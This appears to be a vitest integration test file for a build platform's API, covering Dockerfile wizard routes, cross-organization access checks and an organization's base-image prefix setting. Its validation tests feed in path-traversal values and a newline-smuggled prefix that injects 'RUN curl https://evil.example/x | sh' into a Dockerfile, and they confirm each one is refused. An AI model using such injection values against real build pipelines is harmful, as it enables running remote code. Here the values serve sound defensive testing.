import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createOrgWithMember, createTestApi, expectStatus, type KilnClient, type TestApi } from '../support/api-client';

// These routes answer before any workflow runs, so the API's Temporal client is never dialled here.
let api: TestApi;
let team: Awaited<ReturnType<typeof createOrgWithMember>>;
let rival: Awaited<ReturnType<typeof createOrgWithMember>>;

beforeAll(async () => {
  api = await createTestApi();
  team = await createOrgWithMember(api, 'wizard-team');
  rival = await createOrgWithMember(api, 'wizard-rival');
});
afterAll(async () => {
  await api?.close();
});

const dockerfile = 'FROM node:24-slim\nUSER node\nCMD ["node", "server.js"]\n';
const dockerignore = '.git\nnode_modules\n';

async function newService(name: string, token = team.token): Promise<string> {
  const json = { name, gitProvider: 'gitlab' as const, repoUrl: `https://gitlab.example.com/team/${name}.git` };
  return (await expectStatus(api.client(token).services.$post({ json }), 201)).id;
}

const wizard = (token = team.token) => api.client(token).services[':id'].dockerfile;
const stored = async (id: string, token = team.token) => expectStatus(wizard(token).$get({ param: { id } }), 200);
const useForBuilds = (
  id: string,
  json: { dockerfile: string; dockerignore?: string; path?: string },
  token = team.token,
) => wizard(token).$put({ param: { id }, json });

describe('Build Wizard routes', () => {
  it('"Use for builds" round trip: PUT stores, GET answers, DELETE forgets', async () => {
    const id = await newService('wizard-roundtrip');
    expect(await stored(id)).toEqual({ dockerfile: null, dockerignore: null });
    await expectStatus(useForBuilds(id, { dockerfile, dockerignore }), 200);
    expect(await stored(id)).toEqual({ dockerfile, dockerignore });
    const edited = `${dockerfile}# reviewed\n`;
    await expectStatus(useForBuilds(id, { dockerfile: edited }), 200);
    expect(await stored(id)).toEqual({ dockerfile: edited, dockerignore: '' });
    await expectStatus(wizard().$delete({ param: { id } }), 204);
    expect(await stored(id)).toEqual({ dockerfile: null, dockerignore: null });
  });

  it('refuses bad bodies with a 400 that says what is wrong, and stores nothing', async () => {
    const id = await newService('wizard-bad-bodies');
    await useForBuilds(id, { dockerfile, dockerignore });
    // Sent raw: several of these bodies are ones the typed client refuses to send (unknown fields, no Dockerfile).
    const bad: Array<[string, unknown, RegExp]> = [
      ['sub-project path escaping the repository', { dockerfile, path: '../../etc' }, /path/],
      ['absolute sub-project path', { dockerfile, path: '/etc' }, /sub-project folder/],
      ['sub-project path with a space', { dockerfile, path: 'apps/my web' }, /sub-project folder/],
      ['oversized Dockerfile', { dockerfile: `FROM scratch\n${'#'.repeat(70_000)}` }, /over 65536 characters/],
      ['oversized .dockerignore', { dockerfile, dockerignore: 'x'.repeat(20_000) }, /over 16384 characters/],
      ['NUL in the Dockerfile', { dockerfile: 'FROM scratch\n\0RUN id\n' }, /NUL/],
      ['NUL in the .dockerignore', { dockerfile, dockerignore: '.git\0' }, /NUL/],
      ['empty Dockerfile', { dockerfile: '  \n' }, /empty/],
      ['unknown field', { dockerfile, buildArgs: { A: '1' } }, /Invalid request/],
      ['no Dockerfile at all', { dockerignore }, /dockerfile/],
    ];
    for (const [what, body, message] of bad) {
      const res = await api.request('PUT', `/services/${id}/dockerfile`, { token: team.token, body });
      expect(res.status, what).toBe(400);
      expect(res.body.message, what).toMatch(message);
    }
    // A sub-project belongs in its folder: "Use for builds" covers the root only.
    const sub = await expectStatus(useForBuilds(id, { dockerfile: 'FROM scratch\n', path: 'apps/web' }), 400);
    expect(sub.message).toMatch(/open a merge request/);
    expect(await stored(id)).toEqual({ dockerfile, dockerignore });

    // Raw too: an extra field is what the types forbid.
    const proposals: Array<[unknown, RegExp]> = [
      [{ path: '../secrets' }, /sub-project folder/],
      [{ path: 'apps/web', extra: true }, /extra/],
    ];
    for (const [body, message] of proposals) {
      const res = await api.request('POST', `/services/${id}/dockerfile`, { token: team.token, body });
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(res.body.message).toMatch(message);
    }
    const proposal = { dockerfile: 'FROM scratch\n\0', path: 'apps/web' };
    await expectStatus(wizard()['merge-request'].$post({ param: { id }, json: proposal }), 400);
  });

  it("answers 404 for another organization's service on every route and changes nothing", async () => {
    const theirs = await newService('wizard-theirs', rival.token);
    await useForBuilds(theirs, { dockerfile }, rival.token);
    const param = { id: theirs };
    const attempts: Array<[string, (client: KilnClient) => Promise<Response>]> = [
      ['GET', (client) => client.services[':id'].dockerfile.$get({ param })],
      ['PUT', (client) => client.services[':id'].dockerfile.$put({ param, json: { dockerfile: 'FROM evil\n' } })],
      ['DELETE', (client) => client.services[':id'].dockerfile.$delete({ param })],
      ['POST', (client) => client.services[':id'].dockerfile.$post({ param, json: {} })],
      [
        'POST merge-request',
        (client) =>
          client.services[':id'].dockerfile['merge-request'].$post({ param, json: { dockerfile: 'FROM evil\n' } }),
      ],
    ];
    for (const [what, call] of attempts) {
      for (const token of [team.token, team.adminToken]) {
        const res = await call(api.client(token));
        const text = await res.text();
        expect(res.status, `${what} /services/${theirs}/dockerfile`).toBe(404);
        expect(text).not.toContain('FROM node');
      }
    }
    expect(await stored(theirs, rival.token)).toEqual({ dockerfile, dockerignore: '' });
    await expectStatus(api.client(null).services[':id'].dockerfile.$get({ param }), 401);
  });
});

describe('PATCH /organizations/{id} baseImagePrefix', () => {
  const patch = (id: string, token: string, baseImagePrefix: string | null) =>
    api.client(token).organizations[':id'].$patch({ param: { id }, json: { baseImagePrefix } });
  const prefixOf = async (id: string) =>
    (await expectStatus(api.client(team.adminToken).organizations[':id'].$get({ param: { id } }), 200)).baseImagePrefix;

  it('is set by the org admin, shown to members, and cleared with null or ""', async () => {
    const set = await expectStatus(patch(team.organizationId, team.adminToken, 'mirror.acme.dev:5000/dockerhub/'), 200);
    expect(set.baseImagePrefix).toBe('mirror.acme.dev:5000/dockerhub/');
    const param = { id: team.organizationId };
    const seen = await expectStatus(api.client(team.token).organizations[':id'].$get({ param }), 200);
    expect(seen.baseImagePrefix).toBe('mirror.acme.dev:5000/dockerhub/');
    expect((await expectStatus(patch(team.organizationId, team.adminToken, ''), 200)).baseImagePrefix).toBeNull();
    await patch(team.organizationId, team.adminToken, 'mirror.acme.dev/hub/');
    expect((await expectStatus(patch(team.organizationId, team.adminToken, null), 200)).baseImagePrefix).toBeNull();
  });

  it('is refused to a member (403) and to another organization (404), leaving it unchanged', async () => {
    await patch(team.organizationId, team.adminToken, 'mirror.acme.dev/hub/');
    const member = await expectStatus(patch(team.organizationId, team.token, 'evil.example/'), 403);
    expect(member.message).toMatch(/org_admin|organization admin/i);
    await expectStatus(patch(team.organizationId, rival.adminToken, 'evil.example/'), 404);
    expect(await prefixOf(team.organizationId)).toBe('mirror.acme.dev/hub/');
  });

  it('refuses a hostile prefix (newline, spaces, no trailing slash, a scheme) with a 400 and keeps the old one', async () => {
    await patch(team.organizationId, team.adminToken, 'mirror.acme.dev/hub/');
    const hostile = [
      'mirror.acme.dev/\nRUN curl https://evil.example/x | sh\nFROM node/',
      'mirror.acme.dev/ AS evil/',
      'mirror acme dev/',
      'mirror.acme.dev/hub',
      'https://mirror.acme.dev/',
      'mirror.acme.dev/\tx/',
      `${'a'.repeat(200)}/`,
    ];
    for (const prefix of hostile) {
      const refused = await expectStatus(patch(team.organizationId, team.adminToken, prefix), 400);
      expect(refused.message, JSON.stringify(prefix)).toMatch(/baseImagePrefix|200/);
    }
    expect(await prefixOf(team.organizationId)).toBe('mirror.acme.dev/hub/');
    // Whitespace around a good prefix is trimmed away: what is stored never carries a newline into a FROM line.
    await expectStatus(patch(team.organizationId, team.adminToken, '\nmirror.acme.dev/hub2/\n'), 200);
    expect(await prefixOf(team.organizationId)).toBe('mirror.acme.dev/hub2/');
  });
});
